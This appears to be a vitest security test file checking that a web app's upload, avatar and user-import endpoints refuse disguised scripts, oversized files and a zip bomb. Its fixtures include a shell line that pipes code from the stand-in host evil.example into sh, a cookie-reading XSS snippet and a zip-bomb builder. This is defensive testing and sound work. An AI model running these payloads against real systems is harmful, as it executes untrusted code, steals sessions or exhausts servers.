/**
 * Hostile uploads: content that does not match its extension or declared
 * type, files over the limits, and import files that are not spreadsheets.
 * Each is refused with a clear {code, msg} and nothing is kept.
 */
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createTestApp,
  loginToken,
  type TestApp,
} from '../server/helpers/app.js';
import { multipart, type Part } from '../server/helpers/multipart.js';

const SHELL = '#!/bin/sh\ncurl http://evil.example/x | sh\n';
const HTML =
  '<!doctype html><html><script>alert(document.cookie)</script></html>';

/** A one-entry zip named .xlsx whose sheet unpacks to `mb` megabytes (CRC left 0). */
function zipBomb(mb: number): Buffer {
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const data = deflateRawSync(Buffer.alloc(mb * 1024 * 1024, 0x20), {
    level: 9,
  });
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(1024, 22); // declared small: the sizes a zip states can lie
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(1024, 24);
  central.writeUInt16LE(name.length, 28);
  const cdStart = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(cdStart, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}

async function filesUnder(dir: string): Promise<string[]> {
  try {
    return (await readdir(dir, { recursive: true, withFileTypes: true }))
      .filter((e) => e.isFile())
      .map((e) => e.name);
  } catch {
    return [];
  }
}

describe('hostile uploads', () => {
  let t: TestApp;
  let root: string;
  let token: string;

  const send = async (url: string, parts: Part[]) => {
    const body = multipart(parts);
    const res = await t.app.inject({
      method: 'POST',
      url,
      headers: {
        authorization: `Bearer ${token}`,
        'accept-language': 'en',
        ...body.headers,
      },
      payload: body.payload,
    });
    expect(res.statusCode, url).toBeLessThan(500);
    return res.json() as { code: number; msg: string };
  };

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'sec-uploads-'));
    t = await createTestApp({ profileDir: root });
    token = await loginToken(t.app);
  });
  afterAll(async () => {
    await t.close();
    await rm(root, { recursive: true, force: true });
  });

  it('a script or page disguised as an image is refused on upload and avatar', async () => {
    const before = await filesUnder(root);
    const fakes: [string, string, string][] = [
      ['run.png', SHELL, 'image/png'],
      ['page.jpg', HTML, 'image/jpeg'],
      ['page.gif', HTML, 'image/gif'],
      ['run.pdf', SHELL, 'application/pdf'],
      [
        'page.docx',
        HTML,
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      ],
    ];
    for (const [filename, content, type] of fakes) {
      const up = await send('/common/upload', [
        { name: 'file', filename, content, type },
      ]);
      expect(up.code, filename).toBe(500);
      const many = await send('/common/uploads', [
        { name: 'files', filename, content, type },
      ]);
      expect(many.code, filename).toBe(500);
      if (/\.(png|jpg|gif)$/.test(filename)) {
        const av = await send('/system/user/profile/avatar', [
          { name: 'avatarfile', filename, content, type },
        ]);
        expect(av.code, filename).toBe(500);
      }
    }
    // Script and executable extensions are refused whatever the content
    // (.html is RuoYi's and is served back as a sandboxed attachment).
    for (const filename of ['x.svg', 'x.sh', 'x.js', 'x.php', 'x.exe']) {
      expect(
        (
          await send('/common/upload', [
            { name: 'file', filename, content: 'x' },
          ])
        ).code,
        filename,
      ).toBe(500);
    }
    expect(await filesUnder(root)).toEqual(before);
  });

  it('user import: a file that is not a spreadsheet, or over 10 MB, is refused cleanly', async () => {
    const url = '/system/user/importData?updateSupport=false';
    const count = async () =>
      (await t.app.db.one<{ n: number }>(
        'SELECT count(*)::int AS n FROM sys_user',
      ))!.n;
    const before = await count();
    for (const [filename, content] of [
      ['users.xlsx', SHELL],
      ['users.xlsx', Buffer.from('PK\u0003\u0004broken zip')],
      ['users.xls', HTML],
    ] as const) {
      const res = await send(url, [{ name: 'file', filename, content }]);
      expect(res.code, filename).toBe(500);
      expect(Object.keys(res).sort()).toEqual(['code', 'msg']);
    }
    const big = Buffer.alloc(11 * 1024 * 1024, 0x41);
    big.write('PK\u0003\u0004');
    const res = await send(url, [
      { name: 'file', filename: 'users.xlsx', content: big },
    ]);
    expect(res.code).toBe(500);
    expect(res.msg.length).toBeGreaterThan(0);
    expect(await count()).toBe(before);
    expect(
      (await send('/common/upload', [{ name: 'nothing', content: 'x' }])).code,
    ).toBe(500);
  });

  it('user import: a zip bomb (a few hundred KB unpacking past 100 MB) is refused before it is unpacked', async () => {
    const bomb = zipBomb(150);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const started = Date.now();
    const res = await send('/system/user/importData?updateSupport=false', [
      { name: 'file', filename: 'users.xlsx', content: bomb },
    ]);
    expect(res).toEqual({
      code: 500,
      msg: 'The file is not a valid .xlsx workbook',
    });
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});
